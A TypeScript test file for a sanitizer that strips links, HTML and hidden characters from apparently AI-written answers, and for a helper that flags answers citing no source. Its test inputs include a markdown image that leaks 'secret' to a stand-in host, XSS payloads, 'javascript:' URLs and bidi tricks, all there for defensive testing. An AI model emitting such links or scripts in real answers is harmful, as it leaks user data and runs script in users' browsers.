import { expect, test } from 'vitest';
import { cleanAnswer, withHonesty } from './cleaning.ts';

const clean = (text: string) => cleanAnswer(text, (number) => number <= 2);

test.each([
  ['![x](https://evil.test/?d=secret) Done [1].', 'Done [1].'],
  ['See [the deal](https://evil.test/a) [2].', 'See the deal [2].'],
  ['<img src=x onerror=alert(1)>Hi <b>you</b>', 'Hi you'],
  ['<scr<b>ipt>alert(1)</script>', 'ipt>alert(1)'],
  ['Open evil.test/path?x=1 now', 'Open now'],
  ['javascript:alert(1) and mailto:a@b.test', 'and'],
  ['[1](javascript:x) is [7] known [1, 9]', '[1] is known [1]'],
  ['[a]: https://evil.test\nText', 'Text'],
  ['# Head\n* one\n2. two\n> **bold** `code`', 'Head\n- one\n- two\nbold code'],
  ['Hidden\u202e\u200b text 【1†source】', 'Hidden text [1]'],
  ['Go to /partners/delete/1', 'Go to'],
])('shows %j as %j', (text, shown) => {
  expect(clean(text)).toBe(shown);
});

test('says when an answer names no source, or when there is none', () => {
  expect(withHonesty('', { usedTools: false })).toBe('I do not know.');
  expect(withHonesty('It is 40 %.', { usedTools: false })).toContain('names no source');
  expect(withHonesty('Hello.', { usedTools: false })).toBe('Hello.');
  expect(withHonesty('Hello [1].', { usedTools: true })).toBe('Hello [1].');
});
